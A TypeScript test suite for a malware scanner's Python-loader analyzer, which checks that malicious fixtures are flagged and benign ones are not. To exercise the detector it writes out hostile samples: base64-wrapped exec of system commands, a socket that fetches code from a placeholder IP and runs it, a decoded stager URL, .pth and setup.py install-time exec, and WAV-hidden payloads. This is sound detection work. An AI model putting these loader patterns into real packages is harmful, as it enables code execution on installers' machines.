/**
 * The loader analyzer, RuleTester style: every malicious fixture must fire one of its rules at the threshold, every
 * benign fixture must stay below it. Then the behaviours one by one: evidence, triggers (setup.py, .pth, entry
 * points), asset correlation, and hostile input.
 */
import zlib from 'node:zlib';
import { loaderAnalyzer } from '../../src/analyzers/loader.js';
import { pthAnalyzer } from '../../src/analyzers/pth.js';
import type { Analyzer } from '../../src/analyzers/types.js';
import { scanArtifact } from '../../src/scan.js';
import { defaultOptions } from '../../src/options.js';
import { buildSdist, buildWheel } from '../helpers/archive.js';
import { BENIGN, MALICIOUS, lsbWav, maxScore, rulesOf, runLoader } from '../helpers/python.js';
import { b64, utf8 } from '../helpers/payloads.js';

const THRESHOLD = defaultOptions().threshold;
const loaderRules = (r: Awaited<ReturnType<typeof runLoader>>) => r.findings.filter((f) => f.rule.startsWith('code.'));

describe('invalid: loaders that must be found', () => {
  test.each(MALICIOUS.map((fx) => [fx.name, fx] as const))('%s', async (_name, fx) => {
    const r = await runLoader(fx.files);
    const hits = r.findings.filter((f) => fx.rules!.includes(f.rule) && f.score >= THRESHOLD);
    expect([fx.name, hits.length > 0, rulesOf(r)]).toEqual([fx.name, true, expect.any(Array)]);
    // every finding says where: a line in the evidence, and a path that is a member of the artifact
    for (const f of loaderRules(r)) {
      expect(Object.keys(fx.files)).toContain(f.path);
      if (f.rule !== 'code.asset-loader') expect(f.evidence?.line).toEqual(expect.any(Number));
    }
    if (fx.asset) expect(r.findings.some((f) => f.rule === 'code.asset-loader' && f.path === fx.asset && f.score >= THRESHOLD)).toBe(true);
    expect(r.incomplete).toEqual([]);
  });
});

describe('valid: benign code that uses the same APIs stays below the threshold', () => {
  test.each(BENIGN.map((fx) => [fx.name, fx] as const))('%s', async (_name, fx) => {
    const r = await runLoader(fx.files);
    expect([fx.name, maxScore(r)]).toEqual([fx.name, expect.any(Number)]);
    expect(maxScore(r)).toBeLessThan(THRESHOLD);
    expect(r.score).toBeLessThan(THRESHOLD);
    expect(r.incomplete).toEqual([]);
  });
});

describe('evidence and wording', () => {
  test('the telnyx-style loader is reported at the lines of its sinks, with the URL defanged and the steps named', async () => {
    const fx = MALICIOUS[0];
    const r = await runLoader(fx.files);
    const f = r.findings.find((x) => x.rule === 'code.download-exec' && x.evidence?.sink === 'python-stdin');
    expect(f).toBeDefined();
    const src = String(fx.files['telnyx/_client.py']).split('\n');
    expect(src[Number(f!.evidence!.line) - 1]).toContain('communicate(payload)');
    expect(f!.evidence).toMatchObject({ context: 'at import', labels: expect.arrayContaining(['download', 'media', 'decode', 'xor']) });
    expect(JSON.stringify(f!.evidence)).toContain('hxxp://203[.]0[.]113[.]7/hangup.wav');
    expect(JSON.stringify(f)).not.toContain('http://203.0.113.7');
    expect(f!.message).toMatch(/^line \d+: downloaded data and audio\/image sample data .*decode \+ xor.* fed to a Python interpreter on stdin/);
    expect(f!.offset).toBe(String(fx.files['telnyx/_client.py']).indexOf('subprocess.Popen([sys.executable'));
    // the Windows branch: written to the Startup folder and run hidden
    expect(r.findings.some((x) => x.evidence?.sink === 'persist')).toBe(true);
    expect(r.findings.some((x) => x.evidence?.sink === 'run-file' && x.evidence?.hidden === true)).toBe(true);
  });

  test('a literal that decodes to a URL is reported, defanged', async () => {
    const code = `import base64, subprocess\nU = base64.b64decode('${b64(utf8('http://203.0.113.9/stage.bin'))}').decode()\nsubprocess.run(['ls'])\n`;
    const r = await runLoader({ 'p/__init__.py': code });
    const f = r.findings.find((x) => x.rule === 'code.hidden-url');
    expect(f).toMatchObject({ score: 3, evidence: { line: 2, location: 'hxxp://203[.]0[.]113[.]9/stage.bin' } });
  });

  test('Python 2 exec statements of decoded data are sinks', async () => {
    const r = await runLoader({ 'old/__init__.py': `import base64\nexec base64.b64decode('${b64(utf8("import os; os.system('id')"))}')\n` });
    expect(maxScore(r, 'code.decode-exec')).toBeGreaterThanOrEqual(THRESHOLD);
  });

  test('plain getattr(builtins, "exec") is not an obfuscation; computed names are', async () => {
    const plain = await runLoader({ 'a.py': "import builtins, base64\nexec_ = getattr(builtins, 'exec')\nexec_(compile('x = 1', 'a', 'exec'))\n" });
    expect(rulesOf(plain)).toEqual([]);
    const computed = await runLoader({ 'b.py': "import builtins\nf = getattr(builtins, 'ex' + 'ec')\nf('x = 1')\n" });
    expect(computed.findings.find((x) => x.rule === 'code.obfuscated-call')).toMatchObject({ score: 8, evidence: { name: 'builtins.exec', how: 'getattr' } });
    const imp = await runLoader({ 'c.py': "m = __import__('sub' + 'process')\nm.call(['true'])\n" });
    expect(imp.findings.find((x) => x.rule === 'code.obfuscated-call')).toMatchObject({ score: 7, evidence: { name: 'import subprocess' } });
  });
});

describe('when the code runs', () => {
  const fetchRun = "import urllib.request\nurllib.request.urlopen('https://example.org/version.json').read()\n";

  test('network access in setup.py counts at install for an sdist, not for a wheel that carries a setup.py', async () => {
    const sdist = await runLoader({ 'pkg-1.0/setup.py': fetchRun, 'pkg-1.0/PKG-INFO': 'Name: pkg\n' });
    expect(sdist.findings.find((x) => x.rule === 'code.install-network')).toMatchObject({ score: 7, evidence: { line: 2, context: 'at install (setup.py)' } });
    const wheel = await runLoader({ 'setup.py': fetchRun, 'pkg-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\n' });
    expect(wheel.findings.filter((x) => x.rule === 'code.install-network')).toEqual([]);
  });

  test('a module that a .pth file imports runs at every interpreter start', async () => {
    const fx = MALICIOUS.find((x) => x.name.startsWith('a .pth file importing'))!;
    const r = await runLoader(fx.files);
    const f = r.findings.find((x) => x.rule === 'code.decode-exec')!;
    expect(f.path).toBe('evilhook.py');
    expect(f.evidence).toMatchObject({ context: 'at every interpreter start (imported by a .pth file)', pth: 'zz_evil.pth:1' });
  });

  test('a .pth line the pth analyzer already scores as high is not reported twice', async () => {
    const line = `import base64; exec(base64.b64decode('${b64(utf8("import os; os.system('id')"))}'))\n`;
    const both: Analyzer[] = [pthAnalyzer, loaderAnalyzer];
    const r = await runLoader({ 'x.pth': line }, both);
    expect(rulesOf(r)).toEqual(['code.pth-exec']);
    // alone, the loader reports it
    expect(maxScore(await runLoader({ 'x.pth': line }), 'code.decode-exec')).toBe(9);
  });

  test('findings on a .pth line after CRLF line ends point at the line in the file', async () => {
    const text = `# a comment\r\n./lib\r\nimport base64; exec(base64.b64decode('${b64(utf8("import os; os.system('id')"))}'))\r\n`;
    const f = (await runLoader({ 'x.pth': text })).findings.find((x) => x.rule === 'code.decode-exec')!;
    expect(f.evidence?.line).toBe(3);
    expect(f.offset).toBe(text.indexOf('exec('));
  });

  test('a function that is a console_scripts entry point counts as code that runs', async () => {
    const code = 'import socket\n\ndef main():\n    s = socket.create_connection(("198.51.100.4", 9000))\n    exec(s.recv(65536))\n';
    const lib = await runLoader({ 'tool/cli.py': code });
    const ep = await runLoader({ 'tool/cli.py': code, 'tool-1.0.dist-info/entry_points.txt': '[console_scripts]\ntool = tool.cli:main\n' });
    expect(maxScore(lib, 'code.download-exec')).toBeLessThan(THRESHOLD);
    expect(ep.findings.find((x) => x.rule === 'code.download-exec')).toMatchObject({ score: 8, evidence: { context: 'when its entry point runs', function: 'main' } });
  });
});

describe('assets', () => {
  test('an asset only named by a loader whose flow was not traced is linked when it has signals of its own', async () => {
    const code = "import base64, pkgdata\n_blob = pkgdata.read('blob.dat')\nexec(base64.b64decode(_blob))\n";
    const weak: Analyzer = {
      name: 'weak',
      description: 'a weak signal on the asset, as entropy would give',
      rules: [{ id: 'entropy.high', category: 'entropy', weight: 3, description: 'test' }],
      applies: (f) => f.path.endsWith('.dat'),
      analyze: (f, ctx) => ctx.report({ id: 'entropy.high', category: 'entropy', weight: 3, description: 'test' }, { message: 'high', strength: 0.7 }),
    };
    const r = await runLoader({ 'p/__init__.py': code, 'p/blob.dat': 'x'.repeat(100) }, [weak, loaderAnalyzer]);
    expect(r.findings.find((x) => x.rule === 'code.asset-loader')).toMatchObject({ path: 'p/blob.dat', score: 5, evidence: { loader: 'p/__init__.py', link: 'named' } });
    // without a signal of its own the asset is not accused
    const quiet = await runLoader({ 'p/__init__.py': code, 'p/blob.dat': 'x'.repeat(100) });
    expect(quiet.findings.filter((x) => x.rule === 'code.asset-loader')).toEqual([]);
  });

  test('the whole pipeline flags the LSB loader and its WAV, and leaves a package that plays its WAV alone', async () => {
    const bad = MALICIOUS.find((x) => x.asset === 'chimes/assets/chime.wav')!;
    const rep = await scanArtifact({ file: 'chimes-1.0-py3-none-any.whl', path: 'x', data: buildWheel('chimes', '1.0', bad.files) }, defaultOptions());
    expect(rep.flagged).toBe(true);
    expect(rep.findings.some((f) => f.rule === 'code.asset-loader' && f.path === 'chimes/assets/chime.wav')).toBe(true);
    const good = BENIGN[0];
    const ok = await scanArtifact({ file: 'beeper-1.0-py3-none-any.whl', path: 'x', data: buildWheel('beeper', '1.0', good.files) }, defaultOptions());
    expect(ok.flagged).toBe(false);
    expect(ok.findings.filter((f) => f.rule.startsWith('code.'))).toEqual([]);
  });

  test('an sdist whose setup.py decodes a bundled WAV and runs it is flagged at install', async () => {
    const setup = "import wave, base64\nw = wave.open('data/tone.wav')\nexec(base64.b64decode(w.readframes(w.getnframes())))\nfrom setuptools import setup\nsetup(name='t')\n";
    const rep = await scanArtifact({ file: 't-1.0.tar.gz', path: 'x', data: buildSdist('t', '1.0', { 'setup.py': setup, 'data/tone.wav': lsbWav(utf8('x = 1\n')) }) }, defaultOptions());
    expect(rep.flagged).toBe(true);
    expect(rep.findings.find((f) => f.rule === 'code.media-exec')).toMatchObject({ path: 't-1.0/setup.py', evidence: { context: 'at install (setup.py)', line: 3 } });
    expect(rep.findings.find((f) => f.rule === 'code.asset-loader')).toMatchObject({ path: 't-1.0/data/tone.wav' });
  });
});

describe('hostile input', () => {
  test('deeply nested code terminates, and what a bound left out makes the file incomplete', async () => {
    const deep = `exec(${'('.repeat(1000)}'x'${')'.repeat(1000)})\n`;
    const r1 = await runLoader({ 'a.py': deep });
    expect(r1.findings).toEqual([]);
    const calls = `${'exec('.repeat(1000)}__import__('os').system('id')${')'.repeat(1000)}\n`;
    const r2 = await runLoader({ 'b.py': calls });
    expect(r2.incomplete.join('\n')).toMatch(/nested deeper than/);
  });

  test('layers of decoded code are followed to a depth, then the file is incomplete', async () => {
    let code = "import os; os.system('id')";
    for (let i = 0; i < 16; i++) code = `import base64;exec(base64.b64decode('${b64(utf8(code))}'))`;
    const r = await runLoader({ 'l.py': code + '\n' });
    expect(maxScore(r, 'code.decode-exec')).toBeGreaterThanOrEqual(THRESHOLD);
    expect(r.incomplete.join('\n')).toMatch(/nested deeper than 12 layers/);
    let ok = 'x = 1';
    for (let i = 0; i < 5; i++) ok = `import base64;exec(base64.b64decode('${b64(utf8(ok))}'))`;
    const r2 = await runLoader({ 'm.py': ok + '\n' });
    expect(r2.incomplete).toEqual([]);
  });

  test('hundreds of exec(zlib(base64)) layers stop at the layer bound, flagged and incomplete', async () => {
    let code = "import os; os.system('id')";
    for (let i = 0; i < 200; i++) code = `import zlib,base64;exec(zlib.decompress(base64.b64decode('${zlib.deflateSync(Buffer.from(code)).toString('base64')}')))`;
    const r = await runLoader({ 'z.py': code });
    expect(maxScore(r, 'code.decode-exec')).toBeGreaterThanOrEqual(THRESHOLD);
    expect(r.incomplete.join('\n')).toMatch(/nested deeper than 12 layers|characters of decoded code/);
  });

  test('binary junk, unterminated strings and error-recovery bait never throw', async () => {
    const junk = new Uint8Array(200_000);
    for (let i = 0; i < junk.length; i++) junk[i] = (i * 7919 + 13) & 0xff;
    const texts = [
      junk,
      `exec(base64.b64decode('${'A'.repeat(5000)}`,
      `import subprocess\n${'}'.repeat(50_000)}\nsubprocess.run(x)\n`,
      'def f(:\n  exec(\n' + 'lambda: '.repeat(3000) + '\n',
      `x = ${'[' .repeat(20000)}\nimport os; os.system(x)\n`,
      "exec('\\N{LATIN SMALL LETTER A}' + chr(0x110000) + bytes([300]).decode())\n",
    ];
    for (const t of texts) {
      const r = await runLoader({ 'j.py': t });
      expect(r.incomplete.filter((x) => /failed/.test(x))).toEqual([]);
    }
  });
});

describe('the whole pipeline on fixtures', () => {
  test('a telnyx-style wheel is flagged and a benign sdist with setup.py is not', async () => {
    const bad = await scanArtifact({ file: 'telnyx-4.87.1-py3-none-any.whl', path: 'x', data: buildWheel('telnyx', '4.87.1', MALICIOUS[0].files) }, defaultOptions());
    expect(bad.flagged).toBe(true);
    expect(bad.scoreBreakdown.worstFile).toBe('telnyx/_client.py');
    const fx = BENIGN.find((x) => x.name.startsWith('setup.py reading'))!;
    const files: Record<string, string | Uint8Array> = {};
    for (const [k, v] of Object.entries(fx.files)) files[k.replace(/^mypkg-1\.0\//, '')] = v;
    const good = await scanArtifact({ file: 'mypkg-1.0.tar.gz', path: 'x', data: buildSdist('mypkg', '1.0', files) }, defaultOptions());
    expect(good.flagged).toBe(false);
  });
});
